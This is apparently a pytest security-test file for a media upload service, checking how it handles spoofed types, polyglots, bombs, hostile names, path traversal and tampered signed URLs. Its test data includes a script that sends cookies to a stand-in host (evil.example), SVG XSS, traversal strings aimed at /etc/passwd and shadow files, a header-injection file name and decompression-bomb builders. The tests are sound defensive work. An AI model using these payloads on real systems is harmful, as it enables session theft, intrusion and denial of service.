"""Attacks through uploads: spoofed types, polyglots, bombs, hostile names, replayed signatures.

Each attack ends in a clear 4xx with a reason (and nothing kept), or — for bytes that are a
genuine photo *and* something else — in a photo that is only ever served back as the photo:
its stored, verified type, `X-Content-Type-Options: nosniff`, a sandboxing CSP and a
`Content-Disposition` naming the server's own file name, never the client's.
"""

import io
import struct
import time
import uuid
import zipfile
import zlib
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, urlencode, urlsplit

import httpx
import pytest
from PIL import Image

from tests.attacks.helpers import API
from tests.helpers import media_samples as samples
from tests.helpers.factories import Factory, Member

SAFE_TYPES = {
    "image/jpeg",
    "image/png",
    "image/gif",
    "image/webp",
    "image/heic",
    "image/heif",
    "video/mp4",
    "video/webm",
    "video/quicktime",
}
HTML = (
    b"<html><body><script>fetch('https://evil.example/?c='+document.cookie)</script></body></html>"
)
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>alert(document.domain)</script></svg>"
)


@pytest.fixture
def bucket_dir(settings) -> Path:
    return settings.storage_root / "memories"


def files_under(folder: Path) -> set[Path]:
    return {path for path in folder.rglob("*") if path.is_file()} if folder.exists() else set()


@pytest.fixture
async def owner(factory: Factory) -> Member:
    return await factory.register("adult")


@pytest.fixture
async def memory(client, owner) -> dict[str, Any]:
    return await samples.create_memory(client, owner, title="Uploads")


async def ticket(client, member, memory_id: str, mime: str = "image/jpeg", **kw) -> dict:
    response = await samples.upload_url(client, member, memory_id, mime, **kw)
    assert response.status_code == 200, response.text
    result: dict[str, Any] = response.json()
    return result


def query_of(url: str) -> dict[str, str]:
    return {key: values[0] for key, values in parse_qs(urlsplit(url).query).items()}


def with_query(url: str, **changes: str) -> str:
    parts = urlsplit(url)
    return f"{parts.path}?{urlencode({**query_of(url), **changes})}"


async def assert_refused(
    client, member, memory_id, mime: str, data: bytes, status: int, reason: str, bucket_dir: Path
) -> None:
    """Upload refused with `status` and a reason; nothing kept, and nothing to register."""
    grant = await ticket(client, member, memory_id, mime)
    before = files_under(bucket_dir)
    response = await samples.send_bytes(client, grant, data)
    assert response.status_code == status, response.text
    assert reason in response.json()["detail"]
    assert files_under(bucket_dir) == before
    registered = await samples.register(client, member, memory_id, grant, mime_type=mime)
    assert registered.status_code == 400, registered.text


async def download(client, member, media_id: str, variant: str = "original") -> httpx.Response:
    url = await client.get(
        f"{API}/storage/media/{media_id}/url", params={"variant": variant}, headers=member.headers
    )
    assert url.status_code == 200, url.text
    return await client.get(url.json()["access_url"])


def assert_served_safely(response: httpx.Response, expected_type: str, media: dict) -> None:
    assert response.status_code == 200
    content_type = response.headers["content-type"].split(";")[0]
    assert content_type == expected_type and content_type in SAFE_TYPES
    assert response.headers["x-content-type-options"] == "nosniff"
    assert "sandbox" in response.headers["content-security-policy"]
    disposition = response.headers["content-disposition"]
    file_name = urlsplit(str(response.request.url)).path.rsplit("/", 1)[-1]
    assert disposition == f'inline; filename="{file_name}"', disposition
    assert file_name.startswith(media["id"])


# MIME spoofing ----------------------------------------------------------------------------


async def test_png_bytes_declared_as_jpeg_are_refused(client, owner, memory, bucket_dir):
    await assert_refused(
        client,
        owner,
        memory["id"],
        "image/jpeg",
        samples.png_with_alpha(),
        415,
        "content is image/png, not image/jpeg",
        bucket_dir,
    )


async def test_html_declared_as_jpeg_is_refused(client, owner, memory, bucket_dir):
    await assert_refused(
        client, owner, memory["id"], "image/jpeg", HTML, 415, "not a supported photo", bucket_dir
    )


async def test_mp4_declared_as_png_is_refused(client, owner, memory, bucket_dir):
    await assert_refused(
        client,
        owner,
        memory["id"],
        "image/png",
        samples.mp4(frames=3),
        415,
        "content is video/mp4, not image/png",
        bucket_dir,
    )


async def test_content_type_header_other_than_the_signed_type_is_refused(
    client, owner, memory, bucket_dir
):
    grant = await ticket(client, owner, memory["id"], "image/jpeg")
    before = files_under(bucket_dir)
    response = await client.put(
        grant["upload_url"], content=samples.jpeg((20, 20)), headers={"Content-Type": "text/html"}
    )
    assert response.status_code == 415
    assert "text/html differs from image/jpeg" in response.json()["detail"]
    assert files_under(bucket_dir) == before


@pytest.mark.parametrize(
    "mime",
    [
        "text/html",
        "image/svg+xml",
        "application/xhtml+xml",
        "application/octet-stream",
        "application/zip",
        "image/jpeg, text/html",
        "text/html; x=image/jpeg",
        "image/x-icon",
    ],
)
async def test_upload_url_for_a_type_that_is_not_a_photo_or_video_is_refused(
    client, owner, memory, mime
):
    response = await samples.upload_url(client, owner, memory["id"], mime)
    assert response.status_code == 415, response.text
    assert "Unsupported file type" in response.json()["detail"]


async def test_registering_a_jpeg_upload_as_another_type_is_refused(
    client, owner, memory, bucket_dir
):
    grant = await ticket(client, owner, memory["id"], "image/jpeg")
    assert (await samples.send_bytes(client, grant, samples.jpeg((20, 20)))).status_code == 201
    for mime, status in (("image/png", 400), ("text/html", 415), ("image/svg+xml", 415)):
        response = await samples.register(client, owner, memory["id"], grant, mime_type=mime)
        assert response.status_code == status, response.text


# SVG and HTML disguised as images ------------------------------------------------------------


async def test_svg_declared_as_png_is_refused(client, owner, memory, bucket_dir):
    await assert_refused(
        client, owner, memory["id"], "image/png", SVG, 415, "not a supported photo", bucket_dir
    )


async def test_html_behind_a_gif_signature_is_refused(client, owner, memory, bucket_dir):
    # "GIF89a" then a script: the magic bytes match, the picture does not exist.
    await assert_refused(
        client,
        owner,
        memory["id"],
        "image/gif",
        b"GIF89a/*" + HTML + b"*/",
        400,
        "corrupt",
        bucket_dir,
    )


async def test_html_behind_a_jpeg_signature_is_refused(client, owner, memory, bucket_dir):
    await assert_refused(
        client,
        owner,
        memory["id"],
        "image/jpeg",
        b"\xff\xd8\xff\xe0" + HTML,
        400,
        "corrupt",
        bucket_dir,
    )


# Polyglots: a real photo that is also something else -------------------------------------


def _zip(name: str, data: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(name, data)
    return out.getvalue()


POLYGLOTS = {
    "jpeg+html": (samples.jpeg((64, 48), gps=False) + HTML, "image/jpeg"),
    "gifar-jpeg+zip": (
        samples.jpeg((64, 48), gps=False) + _zip("META-INF/MANIFEST.MF", b"Main-Class: Evil\n"),
        "image/jpeg",
    ),
    "png+html": (samples.png_with_alpha((64, 48)) + HTML, "image/png"),
    "gif+zip": (samples.animated_gif((32, 32)) + _zip("index.html", HTML), "image/gif"),
}


@pytest.mark.parametrize("name", list(POLYGLOTS))
async def test_polyglot_is_only_ever_served_as_the_photo_it_claims_to_be(
    client, owner, memory, name
):
    data, mime = POLYGLOTS[name]
    media = await samples.upload(client, owner, memory["id"], data, mime, file_name="x.html")
    done = await samples.wait_for_media(client, owner, memory["id"], media["id"])
    original = await download(client, owner, media["id"])
    assert_served_safely(original, mime, media)
    assert original.content == data  # kept as sent: nothing is lost
    if done["processing_status"] == "completed":
        thumbnail = await download(client, owner, media["id"], "thumbnail")
        assert_served_safely(thumbnail, "image/jpeg", media)
        # The thumbnail is re-encoded: nothing of the payload survives in it.
        assert b"<script" not in thumbnail.content and b"PK\x03\x04" not in thumbnail.content
    else:
        assert done["processing_status"] == "failed" and done["metadata"]["error"]


# Bombs and oversize ----------------------------------------------------------------------


def _png(width: int, height: int, idat: bytes) -> bytes:
    def chunk(kind: bytes, payload: bytes) -> bytes:
        crc = zlib.crc32(kind + payload) & 0xFFFFFFFF
        return struct.pack(">I", len(payload)) + kind + payload + struct.pack(">I", crc)

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")
    )


def _gif_claiming(width: int, height: int) -> bytes:
    """A real 1×1 GIF whose logical screen says width × height."""
    out = io.BytesIO()
    Image.new("RGB", (1, 1)).save(out, "GIF")
    data = out.getvalue()
    return data[:6] + struct.pack("<HH", width, height) + data[10:]


def _jpeg_claiming(width: int, height: int) -> bytes:
    sof = b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, height, width, 1) + b"\x01\x11\x00"
    return b"\xff\xd8" + sof + b"\xff\xd9"


async def test_png_decompression_bomb_is_refused(client, owner, memory, bucket_dir):
    await assert_refused(
        client,
        owner,
        memory["id"],
        "image/png",
        samples.png_bomb(30_000, 30_000),
        413,
        "too many pixels",
        bucket_dir,
    )


async def test_png_whose_data_inflates_to_gigabytes_is_refused(client, owner, memory, bucket_dir):
    # 10 MB of zeros compress to ~10 KB; the header claims enough pixels to want far more.
    idat = zlib.compress(b"\x00" * 10_000_000, 9)
    await assert_refused(
        client,
        owner,
        memory["id"],
        "image/png",
        _png(40_000, 40_000, idat),
        413,
        "too many pixels",
        bucket_dir,
    )


async def test_gif_claiming_a_huge_canvas_is_refused(client, owner, memory, bucket_dir):
    await assert_refused(
        client,
        owner,
        memory["id"],
        "image/gif",
        _gif_claiming(65_535, 65_535),
        413,
        "too many pixels",
        bucket_dir,
    )


async def test_jpeg_claiming_a_huge_canvas_is_refused(client, owner, memory, bucket_dir):
    await assert_refused(
        client,
        owner,
        memory["id"],
        "image/jpeg",
        _jpeg_claiming(65_000, 65_000),
        413,
        "too many pixels",
        bucket_dir,
    )


async def test_zip_bomb_declared_as_a_photo_is_refused(client, owner, memory, bucket_dir):
    bomb = _zip("bomb.bin", b"\x00" * 20_000_000)
    await assert_refused(
        client, owner, memory["id"], "image/jpeg", bomb, 415, "not a supported photo", bucket_dir
    )


async def test_upload_url_for_a_file_over_the_limit_is_refused(client, owner, memory, settings):
    response = await samples.upload_url(
        client, owner, memory["id"], "image/jpeg", file_size=settings.max_file_bytes + 1
    )
    assert response.status_code == 413
    assert str(settings.max_file_bytes) in response.json()["detail"]


async def test_declared_content_length_over_the_signed_limit_is_refused_unread(
    client, owner, memory, bucket_dir
):
    grant = await ticket(client, owner, memory["id"])
    before = files_under(bucket_dir)
    response = await client.put(
        grant["upload_url"],
        content=samples.jpeg((20, 20)),
        headers={"Content-Type": "image/jpeg", "Content-Length": str(grant["max_bytes"] + 1)},
    )
    assert response.status_code == 413
    assert files_under(bucket_dir) == before


async def test_streamed_body_over_the_signed_limit_is_refused_and_nothing_kept(
    client, owner, memory, bucket_dir, settings
):
    grant = await ticket(client, owner, memory["id"])
    head = samples.jpeg((16, 16), gps=False)
    chunk = b"\x00" * (1024 * 1024)

    async def body():  # no Content-Length: counted as it streams
        yield head
        for _ in range(grant["max_bytes"] // len(chunk) + 1):
            yield chunk

    before = files_under(bucket_dir)
    response = await client.put(
        grant["upload_url"], content=body(), headers={"Content-Type": "image/jpeg"}
    )
    assert response.status_code == 413
    assert files_under(bucket_dir) == before
    assert not any((bucket_dir / ".incoming").glob("*.part"))


# Hostile multipart forms -------------------------------------------------------------------


def _form(boundary: str, data: bytes, field: str = "file") -> bytes:
    return (
        f'--{boundary}\r\nContent-Disposition: form-data; name="{field}"; filename="a.jpg"\r\n'
        f"Content-Type: image/jpeg\r\n\r\n".encode()
        + data
        + f"\r\n--{boundary}--\r\n".encode()
    )


@pytest.mark.parametrize(
    ("content_type", "boundary"),
    [
        ("multipart/form-data; boundary={b}", "b" * 71),  # RFC 2046 allows 1-70 characters
        ("multipart/form-data; boundary={b}", "b" * 257),  # over the parser's own limit
        ("multipart/form-data; boundary={b}", "b" * 5000),
        ('multipart/form-data; boundary="{b}"', "b" * 300),
        ("multipart/form-data", "b" * 20),  # no boundary at all
        ("multipart/form-data; boundary=", "b" * 20),
    ],
    ids=["71", "257", "5000", "quoted-300", "missing", "empty"],
)
async def test_a_hostile_multipart_boundary_is_a_clear_400(
    client, owner, memory, bucket_dir, content_type, boundary
):
    grant = await ticket(client, owner, memory["id"])
    before = files_under(bucket_dir)

    response = await client.post(
        grant["upload_url"],
        content=_form(boundary, samples.jpeg((40, 40))),
        headers={"Content-Type": content_type.format(b=boundary)},
    )

    assert response.status_code == 400, response.text
    assert "multipart" in response.json()["detail"]
    assert files_under(bucket_dir) == before


async def test_a_boundary_of_70_characters_is_accepted(client, owner, memory, bucket_dir):
    grant = await ticket(client, owner, memory["id"])
    data = samples.jpeg((40, 40))
    response = await client.post(
        grant["upload_url"],
        content=_form("b" * 70, data),
        headers={"Content-Type": f"multipart/form-data; boundary={'b' * 70}"},
    )
    assert response.status_code == 201, response.text
    assert (bucket_dir / grant["storage_path"]).read_bytes() == data


# Truncated files ---------------------------------------------------------------------------


async def test_empty_file_is_refused(client, owner, memory, bucket_dir):
    await assert_refused(
        client, owner, memory["id"], "image/jpeg", b"", 400, "The file is empty", bucket_dir
    )


@pytest.mark.parametrize(
    ("mime", "data"),
    [
        ("image/jpeg", samples.jpeg((300, 200), gps=False)),
        ("image/png", samples.png_with_alpha((300, 200))),
        ("image/webp", samples.webp((300, 200))),
        ("video/mp4", samples.mp4(frames=10)),
    ],
    ids=["jpeg", "png", "webp", "mp4"],
)
async def test_truncated_file_is_refused_or_fails_processing_with_a_reason(
    client, owner, memory, bucket_dir, mime, data
):
    half = data[: len(data) // 2]
    grant = await ticket(client, owner, memory["id"], mime)
    response = await samples.send_bytes(client, grant, half)
    if response.status_code != 201:
        assert response.status_code == 400, response.text
        assert "corrupt" in response.json()["detail"]
        return
    registered = await samples.register(
        client, owner, memory["id"], grant, mime_type=mime, file_size=len(half)
    )
    assert registered.status_code == 201, registered.text
    done = await samples.wait_for_media(client, owner, memory["id"], grant["media_id"])
    assert done["processing_status"] == "failed", done
    assert done["metadata"]["error"], done
    assert done["thumbnail_path"] is None
    assert (bucket_dir / grant["storage_path"]).read_bytes() == half  # nothing is lost


# Hostile names and paths -------------------------------------------------------------------

HOSTILE_NAMES = {
    "traversal": "../../../../etc/passwd",
    "windows traversal": "..\\..\\windows\\system32\\config\\sam",
    "absolute": "/etc/shadow",
    "rtl override": "photo\u202egpj.exe",
    "html": '<img src=x onerror="alert(1)">.jpg',
    "header injection": 'a.jpg"\r\nContent-Type: text/html\r\n\r\n<script>',
    "zero width": "pho\u200bto\ufeff.jpg",
}


@pytest.mark.parametrize("name", list(HOSTILE_NAMES))
async def test_hostile_file_name_is_kept_as_text_and_never_used_as_a_path(
    client, owner, memory, bucket_dir, settings, name
):
    file_name = HOSTILE_NAMES[name]
    data = samples.jpeg((20, 20), gps=False)
    grant = await ticket(client, owner, memory["id"], file_name=file_name, file_size=len(data))
    assert grant["storage_path"].startswith(f"{owner.family_id}/{memory['id']}/")
    assert grant["storage_path"].endswith(".jpg") and ".." not in grant["storage_path"]
    assert (await samples.send_bytes(client, grant, data)).status_code == 201
    registered = await samples.register(
        client, owner, memory["id"], grant, mime_type="image/jpeg", file_name=file_name
    )
    assert registered.status_code == 201, registered.text
    media = registered.json()
    assert media["file_name"] == file_name.strip()  # exactly what was sent: it is only a label
    assert (bucket_dir / grant["storage_path"]).read_bytes() == data
    # Nothing was written anywhere but the bucket's own folder.
    assert not (settings.data_dir / "etc").exists()
    served = await download(client, owner, media["id"])
    assert_served_safely(served, "image/jpeg", media)
    assert file_name not in served.headers["content-disposition"]


@pytest.mark.parametrize("file_name", ["photo\x00.jpg", "\x00", "a\x00/../../x"])
async def test_file_name_with_a_nul_byte_is_a_clear_422(client, owner, memory, file_name):
    data = samples.jpeg((20, 20), gps=False)
    response = await samples.upload_url(
        client, owner, memory["id"], "image/jpeg", file_name=file_name
    )
    assert response.status_code == 422, response.text
    assert response.json()["errors"][0]["loc"][-1] == "file_name"
    grant = await ticket(client, owner, memory["id"], file_size=len(data))
    assert (await samples.send_bytes(client, grant, data)).status_code == 201
    registered = await samples.register(
        client, owner, memory["id"], grant, mime_type="image/jpeg", file_name=file_name
    )
    assert registered.status_code == 422, registered.text
    assert registered.json()["errors"][0]["loc"][-1] == "file_name"


OBJECT_PATHS = [
    "../../../../etc/passwd",
    "..%2F..%2F..%2Fetc%2Fpasswd",
    "%2e%2e/%2e%2e/etc/passwd",
    "{family}/{memory}/..%2f..%2f..%2fx.jpg",
    "{family}/{memory}/x.jpg%00.html",
    "{family}/{memory}/{media}.jpg%00",
    "{family}/{memory}/{media}.jpg/",
    "{family}/{memory}/{media}.JPG",
    "{family}\\{memory}\\{media}.jpg",
    "{family}/{memory}/\u2024\u2024/{media}.jpg",
    "{family}/{memory}/{media}\u202egpj.jpg",
    "{family}//{memory}/{media}.jpg",
    "/{family}/{memory}/{media}.jpg",
]


@pytest.mark.parametrize("method", ["GET", "PUT"])
@pytest.mark.parametrize("template", OBJECT_PATHS)
async def test_object_path_tricks_are_refused(client, owner, memory, bucket_dir, method, template):
    grant = await ticket(client, owner, memory["id"])
    media = grant["storage_path"].rsplit("/", 1)[-1].split(".")[0]
    path = template.format(family=owner.family_id, memory=memory["id"], media=media)
    before = files_under(bucket_dir)
    url = f"{API}/storage/objects/memories/{path}?{urlsplit(grant['upload_url']).query}"
    response = await client.request(
        method,
        url,
        content=samples.jpeg((20, 20)) if method == "PUT" else None,
        headers={"Content-Type": "image/jpeg"} if method == "PUT" else {},
    )
    assert response.status_code in (400, 403, 404, 405), response.text
    assert files_under(bucket_dir) == before


@pytest.mark.parametrize(
    "storage_path",
    [
        "../../etc/passwd",
        "{family}/../../../etc/passwd",
        "{family}/{memory}/x.jpg\x00",
        "/etc/passwd",
        "{family}/{memory}/%2e%2e/x.jpg",
    ],
)
async def test_access_url_and_registration_refuse_path_tricks(client, owner, memory, storage_path):
    path = storage_path.format(family=owner.family_id, memory=memory["id"])
    access = await client.get(
        f"{API}/storage/access-url", params={"storage_path": path}, headers=owner.headers
    )
    assert access.status_code in (400, 404, 422), access.text
    registered = await client.post(
        f"{API}/memories/{memory['id']}/media",
        json={"storage_path": path, "file_name": "x.jpg", "mime_type": "image/jpeg"},
        headers=owner.headers,
    )
    assert registered.status_code in (400, 422), registered.text


# Replayed and cross-path signatures ------------------------------------------------------


@pytest.fixture
async def photo(client, owner, memory) -> dict[str, Any]:
    media = await samples.upload(client, owner, memory["id"], samples.jpeg((40, 30)), "image/jpeg")
    return await samples.wait_for_media(client, owner, memory["id"], media["id"])


async def _signed(client, owner, media, variant="original") -> str:
    response = await client.get(
        f"{API}/storage/media/{media['id']}/url",
        params={"variant": variant},
        headers=owner.headers,
    )
    assert response.status_code == 200
    url: str = response.json()["access_url"]
    return url


async def test_download_signature_on_another_path_is_forbidden(client, owner, memory, photo):
    other = await samples.upload(client, owner, memory["id"], samples.webp((20, 20)), "image/webp")
    url = await _signed(client, owner, photo)
    moved = url.replace(photo["storage_path"], other["storage_path"])
    assert (await client.get(moved)).status_code == 403
    assert (await client.get(url)).status_code == 200


async def test_thumbnail_signature_cannot_fetch_the_original(client, owner, photo):
    url = await _signed(client, owner, photo, "thumbnail")
    original = url.replace(photo["thumbnail_path"], photo["storage_path"])
    assert (await client.get(original)).status_code == 403


async def test_download_signature_cannot_upload(client, owner, memory, photo, bucket_dir):
    url = await _signed(client, owner, photo)
    before = (bucket_dir / photo["storage_path"]).read_bytes()
    for method in ("PUT", "POST"):
        response = await client.request(
            method, url, content=samples.jpeg((10, 10)), headers={"Content-Type": "image/jpeg"}
        )
        assert response.status_code in (400, 403), response.text
    assert (bucket_dir / photo["storage_path"]).read_bytes() == before


async def test_upload_signature_cannot_download(client, owner, memory, bucket_dir):
    grant = await ticket(client, owner, memory["id"])
    assert (await samples.send_bytes(client, grant, samples.jpeg((20, 20)))).status_code == 201
    assert (await client.get(grant["upload_url"])).status_code == 403


async def test_upload_url_used_twice_keeps_the_first_file(client, owner, memory, bucket_dir):
    grant = await ticket(client, owner, memory["id"])
    first = samples.jpeg((20, 20))
    assert (await samples.send_bytes(client, grant, first)).status_code == 201
    again = await samples.send_bytes(client, grant, samples.jpeg((30, 30)))
    assert again.status_code == 409
    assert "already uploaded" in again.json()["detail"]
    assert (bucket_dir / grant["storage_path"]).read_bytes() == first


async def test_upload_signature_on_another_path_is_forbidden(client, owner, memory, bucket_dir):
    grant = await ticket(client, owner, memory["id"])
    elsewhere = grant["upload_url"].replace(grant["media_id"], str(uuid.uuid4()))
    before = files_under(bucket_dir)
    response = await client.put(
        elsewhere, content=samples.jpeg((20, 20)), headers={"Content-Type": "image/jpeg"}
    )
    assert response.status_code == 403
    assert files_under(bucket_dir) == before


@pytest.mark.parametrize(
    "change",
    [
        {"type": "image/png"},
        {"max_bytes": str(10**12)},
        {"expires": str(int(time.time()) + 10**6)},
        {"signature": "A" * 43},
        {"signature": ""},
        {"signature": "é" * 43},
    ],
    ids=["type", "max_bytes", "expires", "signature", "empty signature", "non-ASCII signature"],
)
async def test_tampered_upload_url_is_forbidden(client, owner, memory, bucket_dir, change):
    grant = await ticket(client, owner, memory["id"])
    before = files_under(bucket_dir)
    response = await client.put(
        with_query(grant["upload_url"], **change),
        content=samples.jpeg((20, 20)),
        headers={"Content-Type": change.get("type", "image/jpeg")},
    )
    assert response.status_code == 403, response.text
    assert files_under(bucket_dir) == before


async def test_non_ascii_download_signature_is_forbidden(client, owner, photo):
    url = await _signed(client, owner, photo)
    response = await client.get(with_query(url, signature="é" * 43))
    assert response.status_code == 403, response.text
    assert response.json()["code"] == "link_invalid"


async def test_expired_download_url_is_forbidden(client, app, owner, photo):
    storage = app.state.context.storage
    expired = await storage.signed_download_urls([photo["storage_path"]], expires_in=-400)
    assert (await client.get(expired[photo["storage_path"]])).status_code == 403


async def test_expired_upload_url_is_forbidden(client, app, owner, memory, bucket_dir):
    grant = await ticket(client, owner, memory["id"])
    storage = app.state.context.storage
    stale = await storage.create_upload_url(
        grant["storage_path"], mime_type="image/jpeg", max_bytes=1000, expires_in=-1
    )
    before = files_under(bucket_dir)
    response = await client.put(
        stale.url, content=samples.jpeg((20, 20)), headers={"Content-Type": "image/jpeg"}
    )
    assert response.status_code == 403
    assert files_under(bucket_dir) == before


# What comes back ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("mime", "data"),
    [
        ("image/jpeg", samples.jpeg((50, 40))),
        ("image/png", samples.png_with_alpha((50, 40))),
        ("image/gif", samples.animated_gif((50, 40))),
        ("image/webp", samples.webp((50, 40))),
        ("video/mp4", samples.mp4(frames=3, size=(64, 48))),
    ],
    ids=["jpeg", "png", "gif", "webp", "mp4"],
)
async def test_downloads_carry_the_verified_type_nosniff_and_a_safe_disposition(
    client, owner, memory, mime, data
):
    media = await samples.upload(client, owner, memory["id"], data, mime, file_name='evil".html')
    done = await samples.wait_for_media(client, owner, memory["id"], media["id"])
    assert done["processing_status"] == "completed", done
    original = await download(client, owner, media["id"])
    assert_served_safely(original, mime, media)
    assert original.content == data
    thumbnail = await download(client, owner, media["id"], "thumbnail")
    assert_served_safely(thumbnail, "image/jpeg", media)
    head = await client.head(str(original.request.url))
    assert head.headers["x-content-type-options"] == "nosniff"
    assert head.headers["content-disposition"] == original.headers["content-disposition"]
